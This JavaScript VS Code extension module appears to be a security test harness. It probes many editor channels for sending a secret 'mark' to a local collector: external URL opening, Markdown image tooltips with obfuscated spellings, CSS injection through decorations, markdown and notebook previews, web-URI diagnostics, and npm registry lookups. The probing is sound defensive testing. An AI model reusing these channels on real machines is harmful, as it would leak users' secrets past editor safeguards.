"use strict";
const fs = require("node:fs");
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "external", {
    async openExternal({ collector, mark }, vscode) {
      return vscode.env.openExternal(vscode.Uri.parse(`http://127.0.0.1:${collector}/${mark}`));
    },
    async asExternal({ collector, mark }, vscode) {
      const uri = await vscode.env.asExternalUri(vscode.Uri.parse(`http://127.0.0.1:${collector}/${mark}`));
      return String(uri);
    },
    async simpleBrowser({ collector, mark }, vscode) {
      await vscode.commands.executeCommand("simpleBrowser.api.open", vscode.Uri.parse(`http://127.0.0.1:${collector}/${mark}`));
      await new Promise((resolve) => setTimeout(resolve, 2500));
      return "opened";
    },
    // Markdown that the editor renders fetches its pictures. A name is enough to carry a secret out.
    hover({ collector, mark }, vscode) {
      const item = vscode.window.createStatusBarItem(vscode.StatusBarAlignment.Left, 1000);
      item.text = "proof";
      item.tooltip = new vscode.MarkdownString(`![x](https://${mark}.localhost:${collector}/x)`);
      item.show();
      return "shown";
    },
    // The same, by other spellings of a picture and of its address.
    spelt({ collector, mark }, vscode) {
      const address = `//${mark}.localhost:${collector}/x`;
      const item = vscode.window.createStatusBarItem(vscode.StatusBarAlignment.Left, 1000);
      item.text = "proof-spelt";
      item.tooltip = new vscode.MarkdownString(`!![x](https:${address}) ![y](HTTPS:${address}) ![z](&#104;ttps:${address}) <iMG src="https:${address}">`);
      item.tooltip.supportHtml = true;
      item.show();
      return "shown";
    },
    async decoration({ collector, mark, workspace }, vscode) {
      const editor = await vscode.window.showTextDocument(vscode.Uri.file(`${workspace}/first.js`));
      const type = vscode.window.createTextEditorDecorationType({
        before: { contentIconPath: vscode.Uri.parse(`https://${mark}.localhost:${collector}/x.png`), width: "10px", height: "10px" },
      });
      editor.setDecorations(type, [new vscode.Range(0, 0, 0, 1)]);
      return "decorated";
    },
    async background({ collector, mark, workspace }, vscode) {
      const editor = await vscode.window.showTextDocument(vscode.Uri.file(`${workspace}/first.js`));
      const type = vscode.window.createTextEditorDecorationType({ textDecoration: `none; background-image: url(https://${mark}.localhost:${collector}/x)` });
      editor.setDecorations(type, [new vscode.Range(0, 0, 0, 1)]);
      return "decorated";
    },
    // Viewers of the editor's own fetch what a document names.
    async preview({ collector, mark, workspace }, vscode) {
      const file = vscode.Uri.file(`${workspace}/.proof/external.md`);
      fs.writeFileSync(file.fsPath, `![x](https://${mark}.localhost:${collector}/x.png)\n`);
      await vscode.commands.executeCommand("vscode.openWith", file, "vscode.markdown.preview.editor");
    },
    async notebook({ collector, mark, workspace }, vscode) {
      const file = vscode.Uri.file(`${workspace}/.proof/external.ipynb`);
      const cell = { cell_type: "markdown", metadata: {}, source: [`![x](https://${mark}.localhost:${collector}/x.png)`] };
      fs.writeFileSync(file.fsPath, JSON.stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 }));
      await vscode.commands.executeCommand("vscode.open", file);
    },
    // Where a document is expected, the window reads one of the web by itself.
    problem({ collector, mark }, vscode) {
      const document = vscode.Uri.parse(`https://${mark}.localhost:${collector}/x.txt`);
      vscode.languages.createDiagnosticCollection("proof").set(document, [new vscode.Diagnostic(new vscode.Range(0, 0, 0, 1), "proof-web")]);
    },
    // The built-in npm extension asks npm what a hover tells, and npm asks whom the folder's settings name.
    async registry({ mark, workspace }, vscode) {
      const folder = `${workspace}/.proof/package`;
      fs.mkdirSync(folder, { recursive: true });
      fs.writeFileSync(`${folder}/package.json`, JSON.stringify({ name: "x", dependencies: { [mark]: "1.0.0" } }));
      const document = await vscode.workspace.openTextDocument(vscode.Uri.file(`${folder}/package.json`));
      const at = document.positionAt(document.getText().indexOf(mark) + 2);
      for (let i = 0; i < 4; i += 1) {
        void vscode.commands.executeCommand("vscode.executeHoverProvider", document.uri, at);
        await new Promise((resolve) => setTimeout(resolve, 1500));
      }
    },
  });
